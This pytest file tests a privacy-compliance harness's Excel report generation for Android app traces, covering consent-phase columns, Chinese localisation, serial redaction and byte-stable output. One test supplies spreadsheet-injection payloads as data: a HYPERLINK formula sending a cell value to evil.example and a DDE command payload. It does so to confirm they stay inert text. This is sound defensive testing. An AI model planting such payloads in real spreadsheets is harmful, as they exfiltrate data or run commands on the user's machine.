"""report.xlsx: calls, verdicts, SDK × phase × category; hostile text stays text."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from harness.model import Category, MarkerKind, TraceEnd
from harness.reports import verify_manifest, write_reports
from tests.reports.conftest import (
    BASE,
    HOSTILE,
    PKG,
    agree_trace,
    call,
    header,
    make_summary,
    marker,
    write_trace,
)


def _book(folder: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(folder / "report.xlsx")


def _rows(ws: object) -> list[tuple[object, ...]]:
    return list(ws.iter_rows(values_only=True))  # type: ignore[attr-defined]


@pytest.mark.usefixtures("stable_attribution")
def test_three_sheets_in_english(tmp_path: Path, traces: dict[str, Path]) -> None:
    write_reports(tmp_path / "run", make_summary(), traces, lang="en", salt=b"s")
    assert not verify_manifest(tmp_path / "run")  # report.xlsx is sealed with the rest
    book = _book(tmp_path / "run")
    assert book.sheetnames == ["Sensitive calls", "Verdicts", "SDK × phase × category"]
    calls = _rows(book["Sensitive calls"])
    head = calls[0]
    assert head[:8] == ("Scenario", "seq", "ms from launch", "ms from consent", "phase",
                        "category", "API", "data item")
    assert "deciding frame" in head and "stack" in head and "process" in head
    agree = [r for r in calls[1:] if r[0] == "News app — agree"]
    assert [r[1] for r in agree] == [0, 1, 2, 3]  # every call, in order
    first = dict(zip(head, agree[0], strict=True))
    assert first["ms from launch"] == 200 and first["ms from consent"] == -1800
    assert first["phase"] == "pre_consent" and first["category"] == "device_id"
    assert first["data item"] == "imei"  # from the catalog
    assert first["SDK"] == "com.example.analytics"
    assert first["deciding frame"] == "com.example.analytics.Tracker.collect(Tracker.java:10)"
    assert str(first["stack"]).count("\n") == 2
    assert first["process"] == "pid 4242"  # the marker does not name the process
    refuse = [r for r in calls[1:] if r[0] == "News app — refuse"]
    assert [r[4] for r in refuse] == ["pre_consent", "post_refusal"]

    verdicts = _rows(book["Verdicts"])
    vhead = verdicts[0]
    rows = [dict(zip(vhead, r, strict=True)) for r in verdicts[1:]]
    assert {(r["Scenario"], r["Rule"]) for r in rows} >= {
        ("News app — agree", "7.2/pre-consent-collection"),
        ("News app — refuse", "7.2/post-refusal-collection"),
    }
    crashy = next(r for r in rows if r["Scenario"] == "Crashy — device lost")
    assert "device lost" in str(crashy["Error"])
    regress = next(r for r in rows if r["Scenario"] == "News app — regression")
    assert regress["Expectation met"] == "✘"

    sdk = _rows(book["SDK × phase × category"])
    counts = {(r[0], r[2], r[3]): r[4] for r in sdk[1:]}
    assert counts[("com.example.analytics", "pre_consent", "device_id")] == 2  # both traces
    assert counts[("com.example.ads", "post_refusal", "clipboard")] == 1
    assert sum(int(r[4]) for r in sdk[1:]) == 6  # 4 + 2 calls


@pytest.mark.usefixtures("stable_attribution")
def test_chinese_columns_and_values(tmp_path: Path, traces: dict[str, Path]) -> None:
    write_reports(tmp_path / "run", make_summary(), traces, lang="zh", salt=b"s")
    book = _book(tmp_path / "run")
    assert book.sheetnames == ["敏感调用", "判定结果", "SDK×阶段×类别"]
    calls = _rows(book["敏感调用"])
    assert calls[0][:5] == ("场景", "序号", "距启动（毫秒）", "距同意（毫秒）", "阶段")
    assert calls[1][4] == "同意前" and calls[1][5] == "设备标识符"
    verdicts = _rows(book["判定结果"])
    assert "规则说明" in verdicts[0]
    assert any("用户同意前不收集个人信息。" in r for r in verdicts[1:])


def test_hostile_values_stay_text_and_serials_are_redacted(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    dde = "=cmd|' /c calc'!A0"
    serial = "R58M12ABCDE"
    trace = write_trace(
        tmp_path / "t.jsonl",
        [
            header(device={"serial": serial, "model": "phone"}),
            marker(MarkerKind.LAUNCHED, 0),
            call(0, 10, "telephony.imei", Category.DEVICE_ID,
                 [f"{formula}.Evil.run(Evil.java:1)"], thread=dde, args=[HOSTILE, "\x07bell"]),
            call(1, 20, "build.serial", Category.DEVICE_ID, ["com.x.y.Z.m(Z.java:1)"],
                 args=[f"serial={serial}"]),
            TraceEnd(ts=BASE + 30, reason="completed"),
        ],
    )
    summary = make_summary()
    first = summary.scenarios[0].model_copy(update={"device": serial})
    summary = summary.model_copy(update={"scenarios": [first]})
    write_reports(tmp_path / "run", summary, {first.scenario: trace}, lang="en", salt=b"s")
    book = openpyxl.load_workbook(tmp_path / "run/report.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "a hostile text became a formula"
    values = [str(c.value) for c in cells if c.value is not None]
    joined = "\n".join(values)
    assert formula in joined and dde in joined and HOSTILE in joined
    assert "\\x07bell" in " ".join(values)
    # the serial is nowhere in the folder, neither alone nor inside a longer text
    for path in (tmp_path / "run").rglob("*"):
        if path.is_file() and path.name != "trace.jsonl":
            if path.suffix == ".xlsx":
                assert serial not in " ".join(values)
            else:
                assert serial not in path.read_text(encoding="utf-8", errors="replace"), path
    assert any(v.startswith("serial=h:") for v in values)


def test_revealed_serial_when_asked(tmp_path: Path, traces: dict[str, Path]) -> None:
    write_reports(tmp_path / "run", make_summary(), traces, reveal_values=True, lang="en")
    assert "127.0.0.1:5555" in (tmp_path / "run/summary.json").read_text()
    book = _book(tmp_path / "run")
    devices = {r[3] for r in _rows(book["Verdicts"])[1:]}
    assert "127.0.0.1:5555" in devices


def test_same_input_same_bytes(tmp_path: Path) -> None:
    trace = write_trace(tmp_path / "t.jsonl", agree_trace())
    summary = make_summary()
    for name in ("a", "b"):
        write_reports(tmp_path / name, summary, {summary.scenarios[0].scenario: trace},
                      lang="en", salt=b"s")
    a = (tmp_path / "a/report.xlsx").read_bytes()
    assert a == (tmp_path / "b/report.xlsx").read_bytes()
    assert PKG  # the fixture package is what the rows name
